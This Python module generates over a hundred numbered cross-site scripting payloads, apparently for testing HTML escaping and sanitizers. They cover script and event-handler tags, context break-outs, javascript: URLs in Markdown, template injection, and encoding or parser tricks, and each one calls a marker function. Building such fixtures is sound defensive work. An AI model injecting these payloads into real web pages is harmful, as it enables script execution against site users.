"""Texts that do something where a page forgets to escape them: over a hundred, by kind, each calling `pwn(number)`."""

from itertools import count

_CALL = "pwn({n})"
_TAGS = (
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script\n>{c}</script\n>",
    "<script/x>{c}</script>",
    "<<script>{c}//<</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script src='data:text/javascript,{c}'></script>",
    '<script type="module">{c}</script>',
    "<svg><script>{c}</script></svg>",
    "<svg><script xlink:href='data:,{c}'/></svg>",
    "<math><mtext><script>{c}</script></mtext></math>",
    "<noscript><p title='</noscript><script>{c}</script>'>",
    "<template><script>{c}</script></template>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe src='javascript:parent.{c}'></iframe>",
    "<object data='javascript:{c}'></object>",
    "<object data='data:text/html,<script>{c}</script>'></object>",
    "<embed src='javascript:{c}'>",
    "<base href='javascript:{c}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<link rel=stylesheet href='javascript:{c}'>",
    "<link rel=import href='data:text/html,<script>{c}</script>'>",
    "<form action='javascript:{c}'><input type=submit autofocus></form>",
    "<button form=x formaction='javascript:{c}'>press</button>",
    "<isindex action='javascript:{c}' type=image>",
    "<style>@import 'javascript:{c}';</style>",
    "<style>*{{background:url('javascript:{c}')}}</style>",
)
_EVENTS = (
    *("img src=x onerror", "img src=x: onerror", "image src=x onerror", "video src=x onerror", "audio src=x onerror"),
    *("video><source onerror", "svg onload", "svg/onload", "svg><animate attributeName=x begin=0s onbegin"),
    *("svg><set attributeName=x begin=0s onbegin", "body onload", "body onpageshow", "body onhashchange"),
    *("input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "keygen autofocus onfocus"),
    *("details open ontoggle", "marquee onstart", "marquee loop=1 width=0 onfinish", "object data=x onerror"),
    *(
        "iframe onload",
        "embed src=x onload",
        "link rel=stylesheet href=x onerror",
        "style onload",
        "script src=x onerror",
    ),
    *("div style=animation-name:x onanimationstart", "a href=# autofocus tabindex=1 onfocus", "p onmouseover"),
    *("div contenteditable autofocus onfocus", "dialog open onclose", "track default src=x onerror", "form oninput"),
)
_OUT = (
    '">{t}',
    "'>{t}",
    "</textarea>{t}",
    "</title>{t}",
    "</style>{t}",
    "</script>{t}",
    "-->{t}",
    "]]>{t}",
    "`>{t}",
    "</pre>{t}",
)
_ADDRESSES = (
    *(
        "javascript:{c}",
        "JaVaScRiPt:{c}",
        "java\tscript:{c}",
        "java\nscript:{c}",
        "\x01javascript:{c}",
        " javascript:{c}",
    ),
    *(
        "javascript&colon;{c}",
        "&#106;avascript:{c}",
        "&#x6A;avascript:{c}",
        "vbscript:{c}",
        "data:text/html,<script>{c}</script>",
    ),
    *("data:text/html;base64,PHNjcmlwdD5wd24oMCk8L3NjcmlwdD4=", "//javascript:{c}", "javascript://%0a{c}"),
)
_MARKDOWN = (
    "[x]({a})",
    "![x]({a})",
    "<{a}>",
    '[x](https://e.example/"onmouseover="{c})',
    "[x]: {a}\n\n[x]",
    "```<img src=x onerror={c}>\n```",
)
_ODD = (
    "{{{{constructor.constructor('{c}')()}}}}",
    "{{% raw %}}<script>{c}</script>",
    "${{{c}}}",
    "<%= {c} %>",
    "\x1b]8;;javascript:{c}\x1b\\here\x1b]8;;\x1b\\",
    "\x1b[31m<img src=x onerror={c}>\x1b[0m",
    "\u202e<img src=x onerror={c}>",
    "<img src=x\x00 onerror={c}>",
    "\ue000<img src=x onerror={c}>\ue400",
    "<svg><p><style><a id='</style><img src=x onerror={c}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={c}&gt;'>",
    '" onmouseover="{c}" autofocus onfocus="{c}',
    "' hx-on:load='{c}' data-key='j",
    '<div hx-get="/static/viewer.js" hx-trigger="load" hx-on::after-request="{c}"></div>',
    "<div data-hx-on-htmx-load='{c}'></div>",
    "&lt;img src=x onerror={c}&gt;",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
)


def hostile_texts() -> list[str]:
    """All of them, numbered."""
    image = "<img src=x onerror={c}>"
    shapes = [
        *_TAGS,
        *(f"<{event}={{c}}>" for event in _EVENTS),
        *(shape.replace("{t}", image) for shape in _OUT),
        *(shape.replace("{a}", address) for address in _ADDRESSES for shape in _MARKDOWN[:3]),
        *_MARKDOWN[3:4],
        *_MARKDOWN[5:],
        *_ODD,
    ]
    number = count(1)
    return [shape.format(c=_CALL.format(n=next(number))) for shape in shapes]
